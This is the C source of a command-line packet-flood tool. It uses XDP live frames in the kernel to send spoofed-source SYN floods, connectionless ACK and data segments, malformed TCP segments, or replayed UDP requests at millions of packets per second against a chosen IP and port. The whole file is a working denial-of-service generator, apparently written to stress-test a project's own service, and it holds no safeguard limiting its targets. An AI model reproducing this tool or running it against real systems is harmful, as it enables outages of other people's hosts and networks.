// SPDX-License-Identifier: Apache-2.0
/* flood: an attack on one port, from random sources, as fast as one core can or at a given rate: SYNs, ACKs and data of no
 * connection, and malformed segments in turn, all of 60 bytes with right checksums; or native requests (native.h) that are
 * one another's copies but for source, port and nonce, without a checksum.  The frames are made in the kernel (live frames, Linux 5.18 on), since no socket sends two million a second.  Needs root.
 *
 *   flood --interface IF --to-mac MAC --to-ip A --port P [--rate N] [--seconds T] [--syn]   (--syn: nothing but SYNs)
 *         [--datagram FILE]     (the request, 96 to 400 bytes, by UDP)
 *   flood --floor IF            attaches the program that drops everything instead (gone with the interface)
 *
 * Runs until T seconds are over (default 10) or SIGTERM; prints "sent N", "seconds T", "rate R". */
#include <arpa/inet.h>
#include <bpf/bpf.h>
#include <bpf/libbpf.h>
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <linux/bpf.h>
#include <linux/if_link.h>
#include <net/if.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "flood.h"

/* One call of the kernel's runner costs tens of milliseconds of waiting to set up, so a call sends many; a paced flood
 * comes in bursts of this length, a few milliseconds each. */
enum { BURST = 16384, UNPACED_BURST = 1 << 19 };

static struct {
	const char *interface, *floor;
	uint8_t to_mac[6];
	struct in_addr to;
	uint16_t port;
	double rate, seconds;
	bool syn;
	const char *datagram;
} want = {.seconds = 10};

static volatile sig_atomic_t stopped;

static _Noreturn void fail(const char *what)
{
	fprintf(stderr, "flood: %s: %s\n", what, errno != 0 ? strerror(errno) : "bad");
	exit(2);
}

static void on_signal(int number)
{
	stopped = 1;
}

static double now_s(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return (double)now.tv_sec + (double)now.tv_nsec * 1e-9;
}

static void put16(uint8_t *at, unsigned value)
{
	at[0] = (uint8_t)(value >> 8);
	at[1] = (uint8_t)value;
}

/* As the machine reads the words, like the program's own sums: a ones' complement sum does not mind (RFC 1071). */
static uint32_t sum16(const uint8_t *at, size_t bytes)
{
	uint32_t sum = 0;
	uint16_t word;

	for (size_t i = 0; i + 1 < bytes; i += 2) {
		memcpy(&word, at + i, 2);
		sum += word;
	}
	return sum;
}

static void own_mac(uint8_t mac[6])
{
	struct ifreq request = {0};
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	snprintf(request.ifr_name, sizeof(request.ifr_name), "%s", want.interface);
	if (fd < 0 || ioctl(fd, SIOCGIFHWADDR, &request) != 0)
		fail(want.interface);
	memcpy(mac, request.ifr_hwaddr.sa_data, 6);
	close(fd);
}

static void make_frame(uint8_t frame[FLOOD_FRAME_BYTES], struct flood_plan *plan)
{
	static const uint8_t flags[FLOOD_KINDS] = {0x02, 0x10, 0x18, 0x03};
	uint8_t *ip = frame + 14, *tcp = ip + 20, pseudo[4] = {0, 6, 0, 20};

	memset(frame, 0, FLOOD_FRAME_BYTES);
	memcpy(frame, want.to_mac, 6);
	own_mac(frame + 6);
	put16(frame + 12, 0x0800);
	ip[0] = 0x45;
	put16(ip + 2, 40);
	ip[6] = 0x40;
	ip[8] = 64;
	ip[9] = 6;
	memcpy(ip + 16, &want.to, 4);
	put16(tcp + 2, want.port);
	put16(tcp + 4, 0x1234);
	tcp[12] = 0x50;
	put16(tcp + 14, 0xffff);
	plan->ip_sum = sum16(ip, 20);
	for (size_t kind = 0; kind < FLOOD_KINDS; kind++) {
		plan->flags[kind] = tcp[13] = flags[want.syn ? 0 : kind];
		plan->tcp_sum[kind] = sum16(pseudo, 4) + sum16(ip + 16, 4) + sum16(tcp, 20);
	}
	memcpy(plan->frame, frame, FLOOD_FRAME_BYTES);
	plan->ifindex = if_nametoindex(want.interface);
	if (plan->ifindex == 0)
		fail(want.interface);
}

enum { NONCE_AT = 88 }; /* struct native_request */

/* The headers without source, port and checksums, and the file behind them: how many bytes that is. */
static size_t make_datagram(struct flood_plan *plan)
{
	uint8_t *frame = (uint8_t *)plan->datagram, *ip = frame + 14, *udp = ip + 20;
	int fd = open(want.datagram, O_RDONLY | O_CLOEXEC);
	ssize_t got = read(fd, frame + FLOOD_DATAGRAM_AT, 2 * FLOOD_DATAGRAM_WORDS - FLOOD_DATAGRAM_AT);

	if (got < NONCE_AT + 8)
		fail(want.datagram);
	close(fd);
	size_t bytes = (size_t)got;
	memcpy(frame, want.to_mac, 6);
	own_mac(frame + 6);
	put16(frame + 12, 0x0800);
	ip[0] = 0x45;
	put16(ip + 2, (unsigned)(28 + bytes));
	ip[6] = 0x40;
	ip[8] = 64;
	ip[9] = 17;
	memcpy(ip + 16, &want.to, 4);
	put16(udp + 2, want.port);
	put16(udp + 4, (unsigned)(8 + bytes));
	plan->ip_sum = sum16(ip, 20);
	plan->word_cnt = (uint32_t)(FLOOD_DATAGRAM_AT + bytes + 1) / 2;
	plan->nonce_word = (FLOOD_DATAGRAM_AT + NONCE_AT) / 2;
	plan->ifindex = if_nametoindex(want.interface);
	if (plan->ifindex == 0)
		fail(want.interface);
	return FLOOD_DATAGRAM_AT + bytes;
}

static int quiet(enum libbpf_print_level level, const char *format, va_list args)
{
	return level == LIBBPF_WARN ? vfprintf(stderr, format, args) : 0;
}

static struct bpf_object *open_object(const char *self)
{
	char path[512];

	libbpf_set_print(quiet);
	snprintf(path, sizeof(path), "%s.bpf.o", self);
	struct bpf_object *object = bpf_object__open_file(path, NULL);
	if (object == NULL)
		fail(path);
	return object;
}

/* The plan is all there is in its section; it can be written until the object is loaded. */
static struct flood_plan *plan_of(struct bpf_object *object)
{
	size_t bytes = 0;
	const void *at = bpf_map__initial_value(bpf_object__find_map_by_name(object, ".rodata"), &bytes);

	if (at == NULL || bytes != sizeof(struct flood_plan))
		fail("plan");
	return (struct flood_plan *)(uintptr_t)at;
}

static uint64_t sent_by(const struct bpf_object *object)
{
	uint64_t sent;
	uint32_t key = 0;

	if (bpf_map_lookup_elem(bpf_object__find_map_fd_by_name(object, ".bss"), &key, &sent) != 0)
		fail("count");
	return sent;
}

static void attach_floor(struct bpf_object *object)
{
	unsigned ifindex = if_nametoindex(want.floor);
	int fd = bpf_program__fd(bpf_object__find_program_by_name(object, "flood_floor"));

	if (ifindex == 0 || bpf_xdp_attach((int)ifindex, fd, XDP_FLAGS_DRV_MODE, NULL) != 0)
		fail(want.floor);
}

static void wait_until(double moment_s)
{
	double left_s = moment_s - now_s();

	if (left_s > 0)
		usleep((useconds_t)(left_s * 1e6));
}

static void run(struct bpf_object *object, const uint8_t *frame, size_t frame_bytes)
{
	const char *name = want.datagram != NULL ? "flood_datagram" : "flood_next";
	int fd = bpf_program__fd(bpf_object__find_program_by_name(object, name));
	double begin_s = now_s(), end_s = begin_s + want.seconds;
	bool paced = want.rate > 0;

	while (!stopped && now_s() < end_s) {
		LIBBPF_OPTS(bpf_test_run_opts, opts, .data_in = frame, .data_size_in = (uint32_t)frame_bytes,
			    .repeat = paced ? BURST : UNPACED_BURST, .flags = BPF_F_TEST_XDP_LIVE_FRAMES);
		if (bpf_prog_test_run_opts(fd, &opts) != 0 && errno != EINTR)
			fail("live frames");
		if (paced)
			wait_until(begin_s + (double)sent_by(object) / want.rate);
	}
	double seconds = now_s() - begin_s, sent = (double)sent_by(object);
	printf("sent %.0f\nseconds %.3f\nrate %.0f\n", sent, seconds, sent / seconds);
}

static double number(const char *text)
{
	char *end;
	double value = strtod(text, &end);

	errno = 0;
	if (end == text || *end != 0 || value < 0)
		fail(text);
	return value;
}

static void parse_mac(const char *text)
{
	uint8_t *mac = want.to_mac;

	errno = 0;
	if (sscanf(text, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4], &mac[5]) != 6)
		fail(text);
}

static void parse(int argc, char **argv)
{
	static const struct option options[] = {
		{"interface", 1, NULL, 'i'}, {"to-mac", 1, NULL, 'm'},
		{"to-ip", 1, NULL, 'a'},     {"port", 1, NULL, 'p'},
		{"rate", 1, NULL, 'r'},	     {"seconds", 1, NULL, 's'},
		{"floor", 1, NULL, 'f'},     {"syn", 0, NULL, 'S'},
		{"datagram", 1, NULL, 'd'},  {0},
	};

	for (int option; (option = getopt_long(argc, argv, "", options, NULL)) != -1;) {
		switch (option) {
		case 'i':
			want.interface = optarg;
			break;
		case 'm':
			parse_mac(optarg);
			break;
		case 'a':
			if (inet_pton(AF_INET, optarg, &want.to) != 1)
				fail(optarg);
			break;
		case 'p':
			want.port = (uint16_t)number(optarg);
			break;
		case 'r':
			want.rate = number(optarg);
			break;
		case 's':
			want.seconds = number(optarg);
			break;
		case 'S':
			want.syn = true;
			break;
		case 'd':
			want.datagram = optarg;
			break;
		case 'f':
			want.floor = optarg;
			break;
		default:
			exit(2);
		}
	}
	if (want.floor == NULL && (want.interface == NULL || want.port == 0 || want.to.s_addr == 0)) {
		fprintf(stderr, "flood: --interface, --to-mac, --to-ip and --port, or --floor\n");
		exit(2);
	}
}

int main(int argc, char **argv)
{
	const struct sigaction on_stop = {.sa_handler = on_signal};
	uint8_t frame[2 * FLOOD_DATAGRAM_WORDS + 2];
	size_t frame_bytes = FLOOD_FRAME_BYTES;

	parse(argc, argv);
	struct bpf_object *object = open_object(argv[0]);
	if (want.datagram != NULL) {
		struct flood_plan *plan = plan_of(object);
		frame_bytes = make_datagram(plan);
		memcpy(frame, plan->datagram, frame_bytes);
	} else if (want.floor == NULL) {
		make_frame(frame, plan_of(object));
	}
	if (bpf_object__load(object) != 0)
		fail("loading");
	if (want.floor != NULL) {
		attach_floor(object);
		return 0;
	}
	sigaction(SIGTERM, &on_stop, NULL);
	sigaction(SIGINT, &on_stop, NULL);
	run(object, frame, frame_bytes);
	return 0;
}
